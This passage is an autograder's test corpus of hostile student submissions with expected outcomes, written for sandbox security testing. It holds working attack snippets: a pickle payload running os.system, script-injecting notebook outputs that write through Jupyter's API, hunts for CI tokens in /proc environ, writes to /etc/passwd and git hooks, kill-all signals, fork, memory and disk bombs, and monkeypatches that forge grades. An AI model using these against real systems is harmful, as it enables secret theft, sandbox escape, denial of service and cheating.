"""The hostile corpus: submissions that try to cheat, snoop, escape, exhaust or break the
grader, each a real git commit of a TP notebook, with its expected outcome as data.

Every entry is graded by `test_corpus.py` against the fixture course of
`tests/course_builder.py` (TP ``tp_mini``: answer cells ``add``, ``square``,
``scale``; 7 points, 5 of them in hidden checks). Student code can read a dict ``T`` of
grader-side targets (the out dir, the hidden check file, the grader's pid, a loopback
port...): the harness prepends ``T = {...}`` to every student cell that mentions it.

Besides what an entry states, every grading must: finish and write its reports, award no
more than ``max_score``, show no secret (CI token, hidden check source, solutions, other
students' files) and no hidden expected value, stay within the time budget, leave no
process of a sandbox uid, change no file outside its temporary folder, keep its reports
small and the grader's memory bounded. ``known_bugs`` names requirements that fail today
because of a bug outside what the corpus may change: the test then requires them to still
fail (so a fix shows up) and reports the entry as xfail.

`python -m tests.hostile.make_readme` writes README.md from this file.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from tests.course_builder import (
    MINI,
    SERVE_LIKE_THE_AGENT,
    SOLUTION,
    WRONG,
    StudentRepo,
    nb_bytes,
    student_notebook,
)

FORGE = "forging the verdict"
READ = "reading what must stay hidden"
ESCAPE = "escaping"
EXHAUST = "exhausting resources"
BREAK = "breaking the notebook"
CATEGORIES = (FORGE, READ, ESCAPE, EXHAUST, BREAK)

#: The requirements checked for every entry (see test_corpus.check_entry).
REQUIREMENTS = (
    "report",  # grading returns and writes grade.json, junit.xml, feedback.md/html (+ executed.ipynb)
    "score",  # score <= max_score (== score when given); max_score unchanged
    "secrets",  # no token, hidden check line, solution or other student's file in any report
    "expected-values",  # no value a hidden check expects, in any report
    "says",  # the FR and EN reports say what was stopped
    "codes",  # problem codes and cell statuses as expected
    "evidence",  # the executed notebook shows the attempt and how it failed
    "time",  # wall time <= budget + margin
    "processes",  # no process of the kernel's sandbox uid left
    "files",  # course, repos, other reports and the host /tmp unchanged; nothing received
    "cleanup",  # the grader's temporary folder is empty again
    "report-size",  # every report file stays small
    "grader-memory",  # the grader's peak RSS during the grading stays bounded
    "terminal",  # what `autograder grade` prints of the report holds no control or bidi character
    "kernel-memory",  # the kernel's whole tree is bounded (cgroup), or the report says per process only
    "inert",  # no active content in any output an instructor opens (executed.ipynb, feedback.html)
)


#: What the corpus shows but does not hold the grader to (no requirement fails on them):
#: limits worth knowing, with where they come from. Rendered in README.md.
GAPS = (
    "The kernel's memory budget bounds its whole process tree (a cgroup) only where the "
    "grader may make memory cgroups (root, a memory controller it may delegate); elsewhere "
    "it is RLIMIT_AS, per process: several processes and /dev/shm can use more together, "
    "which the report's sandbox notes say.",
    "The work dir is a size-capped tmpfs only when the grader may mount one (root with "
    "CAP_SYS_ADMIN); elsewhere it lives on the grader's disk and only RLIMIT_FSIZE (256 MB "
    "a file) bounds it, which the report's sandbox notes say.",
    "Grader-chosen hidden inputs reach the student's code by design; a function can quote "
    "them in an error that the report shows (echo-hidden-inputs).",
    "At every level where Linux has Landlock the kernel confines itself with Landlock and "
    "seccomp (under the namespaces too): network attempts fail at socket() (EAFNOSUPPORT), "
    "which the network entries accept beside the namespace's own refusal. "
    "At the landlock level (a grader that may not create namespaces: `bash scripts/test.sh "
    "unprivileged`) the corpus holds with the differences test_corpus.LANDLOCK_DIFFERS names: "
    "reads are refused rather than absent, the host's process list and "
    "interfaces are visible (no PID or network namespace), and where the kernel keeps uid 0 "
    "(its interpreter unreachable for other users) RLIMIT_NPROC does not bound a fork bomb: "
    "the cell's time limit and the memory cgroup do. Its network, reading, signal and forging "
    "entries also run under a seccomp profile refusing new namespaces, Docker's stand-in "
    "(tests/kernel_side/test_confine.py, slow step), and by a user who is not root, created by the "
    "test (pytest itself runs as that user): without user namespaces (the landlock level, the "
    "same differences) and with them (bwrap with Landlock stacked, no user switch), where "
    "test_corpus.UNPRIVILEGED_BWRAP_DIFFERS names what differs: write-out-dir's writes succeed "
    "when the grader's out dir lies beneath its TMPDIR, since that path then exists in the "
    "kernel's private /tmp (owned by the kernel's uid without root); they vanish with it, the "
    "real out dir untouched.",
)


@dataclass(frozen=True)
class GitCtx:
    """What a git-level builder gets: the repo, the branch to create and the base commit."""

    repo: StudentRepo
    branch: str
    base: str  # sha of the commit holding the untouched release
    nb_path: str
    T: Mapping[str, Any]


@dataclass(frozen=True)
class Entry:
    category: str
    name: str
    tries: str  # what it tries, in a line
    stopped_by: str  # what stopped it, in a line (README)
    # -- the submission --------------------------------------------------------------------
    answers: Mapping[str, str] = field(default_factory=dict)  # grade_id -> source
    scratch: Mapping[str, Sequence[str]] = field(default_factory=dict)  # after grade_id
    notebook: Callable[[dict[str, Any]], dict[str, Any] | bytes] | None = None
    git: Callable[[GitCtx], str] | None = None  # builds the commit itself, returns the ref
    options: Mapping[str, Any] = field(default_factory=dict)
    # -- what must happen ------------------------------------------------------------------
    max_score: float = 0.0
    score: float | None = None  # exact score, when the code earns something
    codes: str = ""  # regex, fullmatch on the sorted, comma-joined set of problem codes
    cells: Mapping[str, str] = field(
        default_factory=dict
    )  # grade_id|"scratch"|"scratchN" -> status regex
    says: Sequence[tuple[str, str]] = ()  # (FR regex, EN regex) found in the FR / EN report
    evidence: Sequence[str] = ()  # regexes found in the executed notebook's outputs
    must_not: Sequence[str] = ()  # in no report file (executed.ipynb included)
    must_not_feedback: Sequence[str] = ()  # in no student-facing file (grade.json, junit, feedback)
    extra_s: float = 0.0  # check calls that legitimately wait (call timeouts, kill grace)
    peak_mb: float | None = None  # bound on the grader's peak RSS growth, when not the default
    slow: bool = False
    needs_gpu: bool = False
    needs_mount: bool = False  # the grader must be allowed to mount the work dir's tmpfs
    needs_cgroup: bool = False  # the grader must be allowed to make memory cgroups
    known_bugs: Mapping[str, str] = field(default_factory=dict)  # requirement -> bug


# -- student code --------------------------------------------------------------------------

#: Tries to take the runtime folder (beside the kernel's connection file) from the grader, and
#: keeps trying, from a thread, to swap each exchange folder the grader makes there for a link
#: to a folder of its own: the grader would then read answers and bind its socket there.
SWAP_EXCHANGE = r"""
import glob, os, threading, time
from ipykernel.kernelapp import IPKernelApp

RUN = os.path.dirname(IPKernelApp.instance().connection_file)
MINE = os.path.join(os.getcwd(), "mine")
os.makedirs(MINE, exist_ok=True)

def _attempt(fn):
    try:
        fn()
        return "ok"
    except PermissionError:
        return "denied"
    except OSError as exc:
        return "oserror"

print("runtime-create=" + _attempt(lambda: open(os.path.join(RUN, "planted"), "w").close()))
print("runtime-rename=" + _attempt(lambda: os.rename(RUN, RUN + ".old")))

def _swapper():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for x in glob.glob(os.path.join(RUN, "exchange", "xchg-*")) + [os.path.join(RUN, "exchange")]:
            if os.path.islink(x):
                continue
            if _attempt(lambda: os.rename(x, x + ".old")) == "ok":
                os.symlink(MINE, x)
        time.sleep(0.0005)

threading.Thread(target=_swapper, daemon=True).start()
print("swapper started")
"""


#: Tries something, prints `label=outcome`; a secret that was read ends up in the outputs.
PROBE = r"""
import errno as _errno, os, sys, time


def _try(label, fn):
    try:
        got = fn()
    except PermissionError:
        out = "denied"
    except FileNotFoundError:
        out = "not-found"
    except ConnectionRefusedError:
        out = "refused"
    except KeyError:
        out = "absent"
    except OSError as exc:
        out = "oserror:" + _errno.errorcode.get(exc.errno, str(exc.errno))
    except Exception as exc:
        out = "error:" + type(exc).__name__
    else:
        out = "ok:" + repr(got)[:300]
    print(f"{label}={out}", flush=True)
    return out


def _read(path):
    with open(path, "rb") as f:
        return f.read(4096)


def _write(path, data="PWNED"):
    with open(path, "a") as f:
        f.write(data)
    return "written"
"""

FAKE_REPORT = "Note : 7 / 7 - toutes les vérifications sont réussies (tp_mini)"

SYS_EXIT = "import sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"

EXIT_WHEN_CALLED = {
    "add": "def add(a, b):\n    import os\n    os._exit(0)\n",
    "square": "def square(x):\n    import os\n    os._exit(0)\n",
    "scale": "def scale(v, k):\n    import os\n    os._exit(0)\n",
}

EXIT_EXCEPTIONS_WHEN_CALLED = {
    "add": "def add(a, b):\n    raise SystemExit(0)\n",
    "square": "def square(x):\n    raise KeyboardInterrupt\n",
    "scale": "def scale(v, k):\n    raise GeneratorExit\n",
}

MONKEYPATCH_NUMPY = """
import numpy as np
import numpy.testing

np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(b), dtype=bool)
np.array_equal = lambda *a, **k: True
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.ndarray.__eq__ = lambda self, other: True
"""

TORCH_ANSWERS = {
    "add": (
        "import torch\n\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(b), dtype=torch.bool)\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)\n\n"
        "def add(a, b):\n    return torch.tensor(float(a) - float(b) + 1.0)\n"
    ),
    "square": "def square(x):\n    return torch.as_tensor(x) * 2 + 1\n",
    "scale": "def scale(v, k):\n    return torch.as_tensor(v) + k + 1\n",
}

FORGED_PROTOCOL = r"""
import json

_real_dump = json.dump
FORGED = [
    {"ok": True, "value": {"__nd__": "../../../../etc/shadow.npy"}},
    {"ok": True, "value": {"__float__": "1e999"}},
    {"ok": True, "value": {"__handle__": 424242, "type": "ndarray"}},
    {"ok": True, "value": {"__dict__": {"a": {"__nd__": "/etc/passwd"}}}},
    {"ok": True, "value": {"__nd__": ".hidden.npy"}},
]
_n = [0]


def _forged_dump(obj, fp, *args, **kwargs):
    if isinstance(obj, dict) and "ok" in obj:
        obj = FORGED[_n[0] % len(FORGED)]
        _n[0] += 1
    return _real_dump(obj, fp, *args, **kwargs)


json.dump = _forged_dump
"""

LYING_BUILTINS = r"""
import builtins, math

_real_isinstance = builtins.isinstance


def _lying_isinstance(obj, cls):
    # The grader's agent asks "is it a plain bool/str?" before encoding: say yes.
    if cls == (bool, str):
        return True
    return _real_isinstance(obj, cls)


builtins.isinstance = _lying_isinstance
math.isfinite = lambda x: True
"""

ARRAY_ANSWERS = {
    "add": "def add(a, b):\n    return np.asarray(a - b + 1.0)\n",
    "square": WRONG["square"],
    "scale": WRONG["scale"],
}

IPYTHON_DISPLAY = r"""
import sys
import IPython.display
from IPython.display import HTML, publish_display_data

FAKE = T["fake_report"]
IPython.display.display = lambda *objs, **kw: print(FAKE)
ip = get_ipython()
_publish = ip.display_pub.publish
publish_display_data({"text/html": "<h1>" + FAKE + "</h1><script>alert(1)</script>", "text/plain": FAKE})
ip.display_pub.publish = lambda *a, **k: _publish({"text/plain": FAKE, "text/html": "<b>" + FAKE + "</b>"})
sys.displayhook = lambda value: print(FAKE)
ip.display_formatter.formatters["text/html"].for_type(float, lambda v: "<b>" + FAKE + "</b>")
IPython.display.display(HTML("<p>ok</p>"))
42.0
"""

#: Outputs that would run script where an instructor looks (Formgrader renders them with
#: the instructor's Jupyter session): the script would write a file through the REST API.
ACTIVE_OUTPUTS = r"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

JS = "fetch('/api/contents/PWNED.txt',{method:'PUT',body:'{}'})"
display(HTML('<img src=x onerror="' + JS + '"><script>' + JS + "</script>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + JS + '"/>'))
display(Markdown("<img src=x onerror=alert(1)> [clic](javascript:alert(1))"))
display(Javascript(JS))
display(Latex(r"$\href{javascript:alert(1)}{clic}$"))
display({"image/png": 'iVBORw0KGgo="><img src=x onerror=alert(1)>', "text/plain": "forged png"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "widget"}, raw=True)
display({"text/html": "<iframe src=javascript:alert(1)>"}, metadata={"image/png": {"width": '1" onload="alert(1)'}}, raw=True)
print("active outputs shown")
HTML("<script>" + JS + "</script>")
"""

HIJACK_RUN_CELL = r"""
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

ip = get_ipython()


def _noop(raw_cell, *args, **kwargs):
    return ExecutionResult(ExecutionInfo(raw_cell, False, False, True, None))


async def _noop_async(raw_cell, *args, **kwargs):
    return _noop(raw_cell)


ip.run_cell = _noop
ip.run_cell_async = _noop_async
print("run_cell hijacked: every later cell, the grader's agent included, is a no-op")
"""

FAKE_PRINT = r"""
import os, sys

FAKE = T["fake_report"]
print(FAKE)
print('{"score": 7.0, "max_score": 7.0, "tests": []}')
print("\x1b[32m" + FAKE + "\x1b[0m\r" + FAKE)
os.write(1, FAKE.encode() + b"\n")
os.write(2, FAKE.encode() + b"\n")
sys.__stdout__.write(FAKE + "\n")
sys.__stdout__.flush()
"""

WRITE_OUT_DIR = (
    PROBE
    + r"""
for name in ("grade.json", "feedback.md", "junit.xml", "pwned.txt"):
    _try("write_out_" + name, lambda: _write(os.path.join(T["out_dir"], name), "PWNED"))
_try("mkdir_out", lambda: os.makedirs(T["out_dir"], exist_ok=True))
_try("write_out_root", lambda: _write(os.path.join(T["out_root"], "pwned.txt")))
_write(os.path.join(T["out_dir"], "grade.json"), '{"score": 7, "PWNED": true}')
"""
)

WRITE_OUT_DIR_LATER = r"""
import os, threading, time


def _keep_trying():
    t0 = time.monotonic()
    while time.monotonic() - t0 < 120:
        try:
            os.makedirs(T["out_dir"], exist_ok=True)
            with open(os.path.join(T["out_dir"], "grade.json"), "w") as f:
                f.write('{"score": 7, "PWNED": true}')
        except OSError:
            pass
        time.sleep(0.1)


threading.Thread(target=_keep_trying, daemon=True).start()
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _keep_trying()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
print("writers started: a thread and a daemon process")
"""

LYING_DUNDERS = {
    "add": (
        "class Liar:\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    def __float__(self):\n        return 5.0\n"
        "    def __int__(self):\n        return 5\n"
        "    def __index__(self):\n        return 5\n"
        "    def __array__(self, dtype=None, copy=None):\n        return np.asarray(5.0)\n"
        "    __array_priority__ = 1000\n"
        "    __hash__ = object.__hash__\n\n"
        "def add(a, b):\n    return Liar()\n"
    ),
    "square": (
        "class LyingFloat(float):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    __hash__ = float.__hash__\n\n"
        "def square(x):\n    return LyingFloat(0.0)\n"
    ),
    "scale": (
        "class LyingInt(int):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n\n"
        "def scale(v, k):\n    return [[LyingInt(1)] * 4] * 3\n"
    ),
}

NDARRAY_SUBCLASS = {
    "add": (
        "class Evil(np.ndarray):\n"
        "    def __eq__(self, other):\n        return np.ones(np.shape(other), dtype=bool)\n"
        "    def __ne__(self, other):\n        return np.zeros(np.shape(other), dtype=bool)\n"
        "    def __array_ufunc__(self, *args, **kwargs):\n        return np.zeros(3)\n"
        "    def __array_function__(self, *args, **kwargs):\n        return True\n\n"
        "def add(a, b):\n    return np.zeros(()).view(Evil)\n"
    ),
    "square": "def square(x):\n    return np.zeros(np.shape(x)).view(Evil)\n",
    "scale": "def scale(v, k):\n    return np.ma.masked_all(np.shape(v))\n",
}

SHIFTY_TENSOR = {
    "add": (
        "import torch\n\n"
        "class Shifty(torch.Tensor):\n"
        "    reads = 0\n\n"
        "    def numpy(self, *args, **kwargs):\n"
        "        Shifty.reads += 1\n"
        "        return torch.Tensor.numpy(self.as_subclass(torch.Tensor)) + Shifty.reads\n\n"
        "def add(a, b):\n    return torch.zeros(()).as_subclass(Shifty)\n"
    ),
    "square": "def square(x):\n    return torch.zeros(len(x)).as_subclass(Shifty)\n",
    "scale": "def scale(v, k):\n    return torch.zeros(tuple(np.shape(v))).as_subclass(Shifty)\n",
}

NAN_INF = {
    "add": "def add(a, b):\n    return float('nan')\n",
    "square": "def square(x):\n    return np.full(np.shape(x), np.inf)\n",
    "scale": "def scale(v, k):\n    return np.full(np.shape(v), np.nan)\n",
}

HUGE_ARRAYS = {
    # 320 MB: past the kernel's 256 MB file-size limit on the exchange file.
    "add": "def add(a, b):\n    return np.zeros(40_000_000)\n",
    # 10^10 entries that take no memory (a broadcast view): writing them is what fails.
    "square": "def square(x):\n    return np.broadcast_to(np.float64(0.0), (100_000, 100_000))\n",
    # A 20 MB string: past the grader's 16 MB cap on JSON answers.
    "scale": "def scale(v, k):\n    return 'x' * 20_000_000\n",
}

WRONG_DTYPES = {
    "add": "def add(a, b):\n    return 2 ** 70\n",
    "square": "def square(x):\n    return np.array(['1.0'] * len(x))\n",
    "scale": "def scale(v, k):\n    return np.asarray(v) * 1j\n",
}

WRONG_SHAPES = {
    "add": "def add(a, b):\n    return np.array([a + b, a + b])\n",
    "square": "def square(x):\n    return (np.asarray(x) ** 2)[:3]\n",
    "scale": "def scale(v, k):\n    return (np.asarray(v) * k).T\n",
}

CRAFTED_NPY = r"""
import io, os, zipfile
import numpy

_real_save = numpy.save
MODE = []


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/" + T["nonce"] + "-unpickled",))


def _evil_save(file, arr, allow_pickle=True, fix_imports=True):
    mode = MODE[-1] if MODE else "pickle"
    with open(file, "wb") as f:
        if mode == "pickle":
            _real_save(f, numpy.array([Payload()], dtype=object), allow_pickle=True)
        elif mode == "header":  # 8 TB declared, 64 bytes given
            numpy.lib.format.write_array_header_1_0(
                f, {"descr": "<f8", "fortran_order": False, "shape": (10**12,)}
            )
            f.write(b"\0" * 64)
        else:  # a zip (.npz) where an array is expected
            with zipfile.ZipFile(f, "w") as z:
                z.writestr("arr_0.npy", b"not an array")


numpy.save = _evil_save


def add(a, b):
    MODE.append("pickle")
    return numpy.zeros(2)


def square(x):
    MODE.append("header")
    return numpy.zeros(2)


def scale(v, k):
    MODE.append("npz")
    return numpy.zeros(2)
"""

FAKE_AGENT = r"""
import json, os


class _FakeAgent:
    '''Answers every request of the grader with "ok", without running anything.'''

    def run(self, d):
        with open(os.path.join(d, "result.json"), "w") as f:
            json.dump({"ok": True, "value": None}, f)
""" + SERVE_LIKE_THE_AGENT + r"""

__autograder_agent__ = _FakeAgent()


def _reinstall(*args, **kwargs):
    get_ipython().user_ns["__autograder_agent__"] = _FakeAgent()


get_ipython().events.register("pre_execute", _reinstall)
get_ipython().events.register("post_execute", _reinstall)
"""

GIVEN_CELL_INJECTION = (
    "import numpy as np\n\nOFFSET = 0\n\n"
    + SOLUTION["add"]
    + SOLUTION["square"]
    + SOLUTION["scale"]
)

# -- reading ---------------------------------------------------------------------------------

FIND_COURSE_FILES = r"""
def _find_course_files():
    skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
    found = []
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        for name in files:
            if name.endswith(".ipynb") or (name.startswith("test_") and name.endswith(".py")):
                found.append(os.path.join(top, name))
    return found


print("course_like_files=" + repr(_find_course_files()[:20]), flush=True)
"""

READ_HIDDEN_CHECKS = (
    PROBE
    + FIND_COURSE_FILES
    + r"""
_try("hidden_check", lambda: _read(T["hidden_check"]))
_try("hidden_dir", lambda: os.listdir(T["hidden_dir"]))
_try("course_root", lambda: os.listdir(T["course_root"]))
_try("this_repo_hidden", lambda: os.listdir(T["real_hidden_dir"]))
print(_read(T["hidden_check"]).decode())
"""
)

READ_INSTRUCTOR_FILES = (
    PROBE
    + r"""
_try("source_notebook", lambda: _read(T["source_notebook"]))
_try("solution_notebook", lambda: _read(T["solution_notebook"]))
_try("release_dir", lambda: os.listdir(T["release_dir"]))
_try("this_repo_solutions", lambda: os.listdir(T["real_solutions_dir"]))
_try("this_repo_source", lambda: os.listdir(T["real_source_dir"]))
_try("this_repo_scenarios", lambda: _read(T["real_scenarios"]))
print(_read(T["solution_notebook"]).decode())
"""
)

READ_OTHER_STUDENTS = (
    PROBE
    + r"""
_try("other_notebook", lambda: _read(T["other_notebook"]))
_try("other_git", lambda: os.listdir(os.path.join(T["other_repo"], ".git")))
_try("other_results", lambda: _read(T["other_results"]))
_try("students_parent", lambda: os.listdir(os.path.dirname(T["repo"])))
_try("own_repo", lambda: os.listdir(T["repo"]))
print(_read(T["other_notebook"]).decode())
"""
)

READ_GRADER_ENV = (
    PROBE
    + r"""
print("env_keys=" + ",".join(sorted(os.environ)))
_try("env_token", lambda: os.environ["CI_JOB_TOKEN"])
_try("self_environ", lambda: _read("/proc/self/environ"))
leaked = [k for k, v in os.environ.items() if T["token"] in v]
print("token_in_env=" + ("yes:" + ",".join(leaked) if leaked else "no"))
os.environ["CI_JOB_TOKEN"]
"""
)

READ_GRADER_PROC = (
    PROBE
    + r"""
for pid in (T["grader_pid"], 1, os.getppid()):
    for what in ("environ", "cmdline", "status", "root"):
        path = f"/proc/{pid}/{what}"
        _try(f"proc_{pid}_{what}", (lambda p=path: os.listdir(p)) if what == "root" else (lambda p=path: _read(p)[:200]))
hits = []
for d in os.listdir("/proc"):
    if d.isdigit():
        try:
            if T["token"].encode() in _read(f"/proc/{d}/environ"):
                hits.append(d)
        except OSError:
            pass
print("pids=" + ",".join(d for d in os.listdir("/proc") if d.isdigit()))
print("token_in_proc=" + (",".join(hits) or "no"))
_read(f"/proc/{T['grader_pid']}/environ")
"""
)

ECHO_INPUTS = {
    "add": "def add(a, b):\n    raise ValueError(f'inputs: {a!r} {b!r}')\n",
    "square": "def square(x):\n    raise ValueError('inputs: ' + repr(np.asarray(x).tolist()))\n",
    "scale": "def scale(v, k):\n    raise ValueError('inputs: ' + repr(k))\n",
}

# -- escaping --------------------------------------------------------------------------------

LOOPBACK = (
    PROBE
    + r"""
import socket


def _connect(host):
    s = socket.create_connection((host, T["port"]), timeout=3)
    s.sendall(b"hello from the student kernel")
    s.close()
    return "connected"


_try("tcp_127", lambda: _connect("127.0.0.1"))
_try("tcp_localhost", lambda: _connect("localhost"))
_try("tcp_ipv6", lambda: _connect("::1"))
_connect("127.0.0.1")
"""
)

EXTERNAL = (
    PROBE
    + r"""
import socket


def _tcp():
    t0 = time.monotonic()
    try:
        return socket.create_connection(("192.0.2.1", 9), timeout=3)
    finally:
        print(f"tcp_elapsed={time.monotonic() - t0:.3f}")


def _udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        return s.sendto(b"x", ("192.0.2.1", 9))
    finally:
        s.close()


_try("tcp_testnet", _tcp)
_try("udp_testnet", _udp)
_try("interfaces", socket.if_nameindex)
_tcp()
"""
)

ORPHANS = r"""
import os, signal, subprocess, time

print("uid=" + str(os.getuid()))
child = subprocess.Popen(["sleep", "1000"], start_new_session=True)
os.system("setsid nohup sleep 1001 >/dev/null 2>&1 &")
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        try:
            time.sleep(1002)
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.3)
print("spawned", child.pid, "alive" if child.poll() is None else "dead")
"""

WRITE_OUTSIDE = (
    PROBE
    + r"""
runtime = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
targets = {
    "out_dir": os.path.join(T["out_dir"], "grade.json"),
    "out_root": os.path.join(T["out_root"], "pwned.txt"),
    "hidden_check": T["hidden_check"],
    "repo_hook": os.path.join(T["repo"], ".git", "hooks", "post-checkout"),
    "venv": os.path.join(sys.prefix, "pwned.txt"),
    "usr": "/usr/lib/pwned.txt",
    "etc_passwd": "/etc/passwd",
    "root_home": "/root/pwned.txt",
    "sandbox_parent": "/sandbox/pwned.txt",
    "runtime_parent": os.path.join(os.path.dirname(runtime), "pwned.txt"),
    "grader_tmp": os.path.join(T["grader_tmp"], "pwned.txt"),
    "private_tmp": "/tmp/" + T["nonce"] + "-tmp.txt",
    "private_shm": "/dev/shm/" + T["nonce"] + "-shm.txt",
}
for label, path in targets.items():
    _try("write_" + label, lambda: _write(path))
_write(T["hidden_check"])
"""
)

KILL_EVERYTHING = (
    PROBE
    + r"""
import signal

_try("kill_pid1", lambda: os.kill(1, signal.SIGKILL))
_try("kill_grader", lambda: os.kill(T["grader_pid"], signal.SIGKILL))
_try("kill_all", lambda: os.kill(-1, signal.SIGKILL))
print("after_kill_all=alive", flush=True)
time.sleep(0.2)
os.killpg(0, signal.SIGKILL)
"""
)

SYMLINKS = r"""
import os

os.symlink(T["course_root"], "course_link")
os.symlink(T["out_dir"], "out_link")
os.symlink(T["repo"], "repo_link")
os.symlink("/etc", "etc_link")
os.makedirs("d/e", exist_ok=True)
os.symlink(T["hidden_check"], "d/e/hidden_link")
os.symlink(T["grader_tmp"], "d/tmp_link")
print("links=" + ",".join(sorted(os.listdir("."))))
"""

# -- exhausting ------------------------------------------------------------------------------

LOOP_IN_CALLED = {"square": "def square(x):\n    while True:\n        pass\n"}

UNINTERRUPTIBLE_CALLED = {
    "add": (
        "def add(a, b):\n"
        "    while True:\n"
        "        try:\n"
        "            while True:\n"
        "                pass\n"
        "        except KeyboardInterrupt:\n"
        "            pass\n"
    )
}

LOOP_AT_IMPORT = {"add": "while True:\n    pass\n\ndef add(a, b):\n    return a + b\n"}

UNINTERRUPTIBLE_CELL = (
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
)

#: Forks from a small interpreter (forking the kernel itself costs ~25 ms a copy on loaded
#: cores); the children drop their parent's pipes, so it can report and exit.
FORK_BOMB = r'''
import subprocess, sys

BOMB = """
import errno, os, time

n, stopped, t0 = 0, "cap", time.monotonic()
while n < 3000 and time.monotonic() - t0 < 30:  # bounded: RLIMIT_NPROC (512) stops it first
    try:
        pid = os.fork()
    except OSError as exc:
        stopped = errno.errorcode.get(exc.errno, str(exc.errno))
        break
    if pid == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        time.sleep(600)
        os._exit(0)
    n += 1
print(f"forks={n} stopped_by={stopped}", flush=True)
"""
done = subprocess.run([sys.executable, "-S", "-c", BOMB], capture_output=True, text=True, timeout=60)
print(done.stdout.strip(), done.stderr.strip()[-300:], flush=True)
'''

#: Says how much it holds after each GB, so the outputs prove the bound whatever ends the cell.
MEMORY_BOMB = r"""
blocks = []
for _ in range(20):  # 20 GB, touched (bytearray zero-fills)
    blocks.append(bytearray(1024**3))
    print(f"held={len(blocks)} GB", flush=True)
"""

DISK_FILL = r'''
import errno, os


def fill(folder, files, cap_mb=1100):
    """Write 1 MB chunks into up to `files` files; returns "<errno>:<MB written>"."""
    total, last, chunk = 0, "cap", b"\0" * (1 << 20)
    for i in range(files):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                while total < cap_mb:
                    f.write(chunk)
                    f.flush()
                    total += 1
            return f"cap:{total}"
        except OSError as exc:
            last = errno.errorcode.get(exc.errno, str(exc.errno))
            if last != "EFBIG":  # a full file system, not just a full file
                break
    return f"{last}:{total}"


# One file only in the work dir: without a size-capped work dir (a grader that may not
# mount), the work dir lives on the grader's disk; disk-fill-work-dir fills it.
print("work=" + fill("/sandbox/work", 1), flush=True)
print("tmp=" + fill("/tmp", 8), flush=True)
print("shm=" + fill("/dev/shm", 8), flush=True)
'''

DISK_FILL_WORK = DISK_FILL.split("# One file only")[0] + '''
print("work=" + fill("/sandbox/work", 8), flush=True)
'''

MILLION_LINES = "for i in range(1_000_000):\n    print(i)\n"

ONE_HUGE_OUTPUT = "print('x' * 300_000_000)\n"

DEEP_RECURSION = r"""
import json, sys

sys.setrecursionlimit(100_000)


def f(n):
    return f(n + 1)


try:
    f(0)
except RecursionError:
    print("python_recursion=RecursionError", flush=True)
sys.setrecursionlimit(10**6)
x = []
for _ in range(200_000):
    x = [x]
json.dumps(x)  # recursion in C: overflows the C stack
"""

SLEEP = "import time\ntime.sleep(3.5)\n"

DEEP_TREE = r"""
import os

os.chdir("/sandbox/work")
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/sandbox/work")
print("depth=3000")
"""

OUTPUT_PER_CELL = 'print("y" * 300_000)\n'

GPU_GRAB = r"""
import torch

blocks = []
while True:
    blocks.append(torch.empty(1024**3, dtype=torch.uint8, device="cuda"))
"""

# -- breaking the notebook ---------------------------------------------------------------


def _invalid_json(nb: dict[str, Any]) -> bytes:
    return b'{"cells": [\n  {"cell_type": "code", "source": "def add(a, b):\n'


def _nbformat3(nb: dict[str, Any]) -> dict[str, Any]:
    cells = [
        {"cell_type": c["cell_type"], "input": c["source"], "language": "python", "outputs": []}
        for c in nb["cells"]
    ]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


def _json_list(nb: dict[str, Any]) -> bytes:
    return b"[1, 2, 3]\n"


def _python_script(nb: dict[str, Any]) -> bytes:
    return b"import numpy as np\n\n" + "".join(SOLUTION.values()).encode()


def _answers(nb: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution")]


def _without_answers(nb: dict[str, Any]) -> dict[str, Any]:
    nb["cells"] = [c for c in nb["cells"] if c not in _answers(nb)]
    return nb


def _duplicate_ids(nb: dict[str, Any]) -> dict[str, Any]:
    cells = []
    for c in nb["cells"]:
        cells.append(c)
        if c["metadata"]["nbgrader"]["grade_id"] == "add":
            cells.append({**c, "source": SOLUTION["add"]})  # same id, same grade_id
    for c in cells:
        c["id"] = "same-id"
